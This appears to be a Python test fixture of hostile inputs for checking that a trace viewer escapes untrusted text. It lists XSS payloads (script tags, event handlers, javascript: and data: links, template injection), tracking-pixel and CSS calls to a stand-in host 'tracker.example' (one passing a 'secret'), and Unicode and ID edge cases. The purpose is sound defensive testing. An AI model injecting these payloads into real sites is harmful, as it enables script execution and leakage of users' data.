"""Texts that a trace may carry and a screen must only ever show: markup, links, remote images, odd scripts."""

# If one of these runs, the page says so: `window.__hit` is looked at after every screen.
_RUN = "window.__hit=1"

XSS = [
    f"<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"[click](javascript:{_RUN})",
    f"[click](java\tscript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "![pixel](http://tracker.example/pixel.png?secret=1)",
    "![pixel](//tracker.example/pixel.png)",
    f'![x](x" onerror="{_RUN})',
    "<style>*{background:url(http://tracker.example/css)}</style>",
    "<link rel=stylesheet href=http://tracker.example/x.css>",
    "<base href=http://tracker.example/>",
    "<meta http-equiv=refresh content='0;url=http://tracker.example/'>",
    "<form action=http://tracker.example/><button>send</button></form>",
    "{{constructor.constructor('window.__hit=1')()}}",
    "${window.__hit=1}",
    "</textarea><script>window.__hit=1</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
]

SCRIPTS = [
    "مرحبا، كيف يمكنني المساعدة؟",
    "שלום, איך אפשר לעזור?",
    "こんにちは、ご用件をどうぞ。",
    "😀 👩‍👩‍👧‍👦 🏳️‍🌈 é (combining) ﷽",
    "\u202eright-to-left override\u202c",
    "zero\u200bwidth\ufeffjoiner",
]

AWKWARD_IDS = [
    "12345678901234567890",
    "9e12345678901234",
    "true",
    "null",
    "a/b",
    "ü",
    "%2F",
    "a b?c#d&e=f",
    "0x10",
    ".",
    "..",
]
